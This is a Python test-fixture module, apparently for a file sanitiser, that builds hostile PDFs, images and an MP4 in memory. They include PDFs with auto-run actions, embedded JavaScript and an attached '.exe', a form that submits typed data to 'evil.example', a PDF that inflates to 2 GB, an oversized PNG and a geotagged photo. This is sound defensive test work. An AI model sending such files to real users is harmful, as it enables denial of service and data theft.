"""PDFs, pictures and films that must not be kept, built in memory; and ones that must."""

import io
import struct
import zlib

import pikepdf
from PIL import Image

PNG = b"\x89PNG\r\n\x1a\n"


def pdf(pages: int = 1) -> bytes:
    """Return a PDF of empty pages."""
    with pikepdf.new() as document:
        for _page in range(pages):
            document.add_blank_page(page_size=(595, 842))
        return saved(document)


def saved(document: pikepdf.Pdf, **options: object) -> bytes:
    """Return a document as bytes."""
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def pdf_with_action(action: pikepdf.Dictionary) -> bytes:
    """Return a PDF that does something when it is opened."""
    with pikepdf.new() as document:
        document.add_blank_page()
        document.Root.OpenAction = document.make_indirect(action)
        return saved(document)


def pdf_with_named_script() -> bytes:
    """Return a PDF with a script in its table of names, packed into an object stream."""
    with pikepdf.new() as document:
        document.add_blank_page()
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["a", script]))
        return saved(document, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def pdf_with_attachment() -> bytes:
    """Return a PDF that carries another file."""
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["a.exe"] = b"MZ"
        return saved(document)


def pdf_with_annotation(subtype: str) -> bytes:
    """Return a PDF with an annotation of that kind."""
    with pikepdf.new() as document:
        document.add_blank_page()
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[0, 0, 9, 9])
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
        return saved(document)


def pdf_with_untyped_attachment() -> bytes:
    """Return a PDF whose annotation carries a file that does not say it is one."""
    with pikepdf.new() as document:
        document.add_blank_page()
        carried = document.make_indirect(pikepdf.Stream(document, b"MZ"))
        held = pikepdf.Dictionary(F="a.exe", EF=pikepdf.Dictionary(F=carried))
        note = pikepdf.Dictionary(Subtype=pikepdf.Name.Text, Rect=[0, 0, 9, 9], FS=document.make_indirect(held))
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])
        return saved(document)


def pdf_nested() -> bytes:
    """Return a PDF with a script thirty boxes deep."""
    with pikepdf.new() as document:
        document.add_blank_page()
        inner = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        for _box in range(30):
            inner = pikepdf.Dictionary(Inside=inner)
        document.Root.Extra = document.make_indirect(inner)
        return saved(document)


def pdf_with_odd_names() -> bytes:
    """Return a PDF whose font and colour bear the names of keys for files."""
    with pikepdf.new() as document:
        document.add_blank_page()
        font = pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
        colour = pikepdf.Array([pikepdf.Name.CalGray, pikepdf.Dictionary(WhitePoint=[1, 1, 1])])
        document.pages[0].Resources = pikepdf.Dictionary(
            Font=pikepdf.Dictionary(AF=font, EF=font), ColorSpace=pikepdf.Dictionary(AF=colour)
        )
        return saved(document)


def pdf_with_form() -> bytes:
    """Return a PDF whose button sends what was typed elsewhere."""
    with pikepdf.new() as document:
        document.add_blank_page()
        send = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://evil.example/")
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, Rect=[0, 0, 9, 9], A=send)
        button = document.make_indirect(note)
        document.pages[0].Annots = pikepdf.Array([button])
        document.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))
        return saved(document)


def pdf_encrypted(user: str) -> bytes:
    """Return a PDF with a password to open it, or one that is only locked."""
    with pikepdf.new() as document:
        document.add_blank_page()
        return saved(document, encryption=pikepdf.Encryption(owner="o", user=user))


def pdf_that_swells() -> bytes:
    """Return a small PDF whose object stream would unfold to 2 GB."""
    packer = zlib.compressobj(9)
    block = bytes(1024 * 1024)
    packed = b"5 0 " + b" " * 60
    stream = packer.compress(packed) + b"".join(packer.compress(block) for _n in range(2048)) + packer.flush()
    objects = [
        b"1 0 obj<</Type/Catalog/Pages 2 0 R/X 5 0 R>>endobj\n",
        b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n",
        b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n" % len(stream)
        + stream
        + b"\nendstream endobj\n",
    ]
    body, places = b"%PDF-1.5\n", [0]
    for each in objects:
        places.append(len(body))
        body += each
    rows = [(0, 0, 65535), (1, places[1], 0), (1, places[2], 0), (1, len(body), 0), (1, places[3], 0), (2, 4, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"3 0 obj<</Type/XRef/Size 6/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % len(body)


def picture(form: str = "JPEG", size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    """Return a small picture."""
    out = io.BytesIO()
    Image.new("RGB", size, "#7a9").save(out, form, **options)
    return out.getvalue()


def located_photo() -> bytes:
    """Return a photograph that says where it was taken, and lies on its side."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SecretPhone"
    exif.get_ifd(0x8825)[2] = (26.0, 34.0, 30.0)
    return picture(exif=exif, comment=b"taken by Zhang San")


def photo_with_broken_exif() -> bytes:
    """Return a photograph that is to be turned, by an EXIF block that cannot be written again."""
    turned = struct.pack("<HHI4s", 0x0112, 3, 1, b"\x06\0\0\0")
    wrong = struct.pack("<HHI4s", 0x0100, 1, 1, b"\xff" * 4)  # a width that is no number
    return picture(exif=b"Exif\0\0II*\0" + struct.pack("<IH", 8, 2) + turned + wrong + bytes(4))


def chunk(kind: bytes, content: bytes) -> bytes:
    """Return one chunk of a PNG."""
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def huge_png(width: int, height: int) -> bytes:
    """Return a PNG that claims that many pixels, without them."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return PNG + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(1000))) + chunk(b"IEND", b"")


def film() -> bytes:
    """Return the smallest whole mp4."""
    boxes = ((b"ftyp", b"isom\0\0\0\0isom"), (b"moov", bytes(8)), (b"mdat", bytes(32)))
    return b"".join(struct.pack(">I", len(content) + 8) + kind + content for kind, content in boxes)
